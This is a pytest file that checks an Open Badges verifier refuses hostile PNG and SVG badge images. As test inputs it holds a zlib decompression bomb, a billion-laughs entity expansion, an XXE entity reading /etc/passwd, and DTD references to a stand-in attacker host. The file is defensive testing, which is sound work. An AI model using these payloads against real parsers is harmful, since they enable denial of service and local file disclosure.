"""Class 7, baked images: a PNG or SVG is attacker-shaped bytes. Compressed text is refused
without being inflated, a second credential or too many chunks are refused, and an SVG's
entities and external references are refused without being resolved (no network, no files).
Round trips and the basic refusals are in tests/verifier/test_inputs.py."""

from __future__ import annotations

import struct
import time
import zlib

import pytest

from verifier.inputs import PNG_SIGNATURE, UnusableInput, parse_bytes

CREDENTIAL = (
    b'{"@context": ["https://www.w3.org/ns/credentials/v2"], "type": ["VerifiableCredential"]}'
)


def _chunk(kind: bytes, body: bytes, length: int | None = None) -> bytes:
    size = len(body) if length is None else length
    return struct.pack(">I", size) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _itxt(text: bytes, *, compressed: bool = False) -> bytes:
    flag = b"\x01\x00" if compressed else b"\x00\x00"
    return _chunk(b"iTXt", b"openbadgecredential\x00" + flag + b"\x00\x00" + text)


IHDR = _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
IEND = _chunk(b"IEND", b"")


def _png(*chunks: bytes) -> bytes:
    return PNG_SIGNATURE + IHDR + b"".join(chunks) + IEND


@pytest.fixture
def no_inflating(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("the verifier inflated attacker-supplied data")

    for name in ("decompress", "decompressobj"):
        monkeypatch.setattr(zlib, name, refuse)


def _refusal(data: bytes) -> tuple[str, float]:
    started = time.perf_counter()
    with pytest.raises(UnusableInput) as raised:
        parse_bytes(data)
    return str(raised.value), time.perf_counter() - started


def test_a_compressed_itxt_bomb_is_refused_without_inflating(no_inflating):
    bomb = zlib.compress(b"{" + b" " * (64 * 1024 * 1024) + b"}", 9)  # 64 MiB in ~64 KiB
    message, elapsed = _refusal(_png(_itxt(bomb, compressed=True)))
    assert message == "compressed openbadgecredential chunks are not accepted"
    assert elapsed < 0.1


def test_a_ztxt_chunk_is_not_read_as_a_credential(no_inflating):
    ztxt = _chunk(b"zTXt", b"openbadgecredential\x00\x00" + zlib.compress(CREDENTIAL))
    message, _ = _refusal(_png(ztxt))
    assert message == (
        "the PNG carries no Open Badges credential (no openbadgecredential iTXt chunk)"
    )


def test_two_credential_chunks_are_refused_even_when_one_is_after_the_image_data():
    idat = _chunk(b"IDAT", zlib.compress(b"\x00\x00\x00\x00\x00"))
    message, _ = _refusal(_png(_itxt(CREDENTIAL), idat, _itxt(b'{"forged": true}')))
    assert message == "the PNG carries more than one Open Badges credential"


def test_the_chunk_count_is_capped_before_the_credential_is_reached():
    filler = _chunk(b"tEXt", b"Comment\x00x") * 300
    message, elapsed = _refusal(_png(filler, _itxt(CREDENTIAL)))
    assert message == "PNG has more than 256 chunks"
    assert elapsed < 0.1


def test_a_chunk_claiming_four_gigabytes_is_refused_as_truncated():
    message, elapsed = _refusal(PNG_SIGNATURE + _chunk(b"iTXt", b"x", length=0xFFFFFFFF))
    assert message == "PNG is truncated"
    assert elapsed < 0.1


def test_an_image_over_the_size_cap_is_refused_before_its_chunks_are_read():
    message, _ = _refusal(_png(_itxt(CREDENTIAL), _chunk(b"tEXt", b"x" * (2 * 1024 * 1024))))
    assert message == "image is larger than 2097152 bytes"


SVG_OPEN = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE svg ['
    + b'<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
    + SVG_OPEN
    + b"<openbadges:credential>&lol9;</openbadges:credential></svg>"
)


@pytest.mark.parametrize(
    ("svg", "refused"),
    [
        (BILLION_LAUGHS, "EntitiesForbidden"),
        (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY cred SYSTEM "file:///etc/passwd">]>'
         + SVG_OPEN + b"<openbadges:credential>&cred;</openbadges:credential></svg>",
         "EntitiesForbidden"),
        (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % remote SYSTEM '
         b'"https://evil.example/x.dtd"> %remote;]>' + SVG_OPEN + b"</svg>",
         "EntitiesForbidden"),
    ],
    ids=["billion-laughs", "external-file-entity", "remote-parameter-entity"],
)  # fmt: skip
def test_svg_entities_and_external_references_are_refused_unresolved(svg, refused):
    message, elapsed = _refusal(svg)
    assert message == f"SVG refused: {refused} (DTD entities or external references)"
    assert elapsed < 0.1


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
        b'<!DOCTYPE svg SYSTEM "https://evil.example/evil.dtd">',
    ],
    ids=["svg-1.1", "attacker-dtd"],
)
def test_an_external_dtd_is_never_fetched(doctype):
    """Badge tools write the SVG 1.1 DOCTYPE, so a DTD reference is accepted; it is never
    loaded (the network guard fails the test on any attempt)."""
    svg = (
        b'<?xml version="1.0"?>' + doctype
        + SVG_OPEN + b"<openbadges:credential>eyJhbGciOiJFUzI1NiJ9.eyJ2YyI6e319.c2ln"
        b"</openbadges:credential></svg>"
    )  # fmt: skip
    parsed = parse_bytes(svg)
    assert (parsed.kind, parsed.source) == ("jwt", "svg")


def test_two_credentials_in_an_svg_are_refused():
    element = (
        b"<openbadges:credential>eyJhbGciOiJFUzI1NiJ9.eyJ2YyI6e319.c2ln</openbadges:credential>"
    )
    message, _ = _refusal(SVG_OPEN + element + element + b"</svg>")
    assert message == "the SVG carries more than one Open Badges credential"
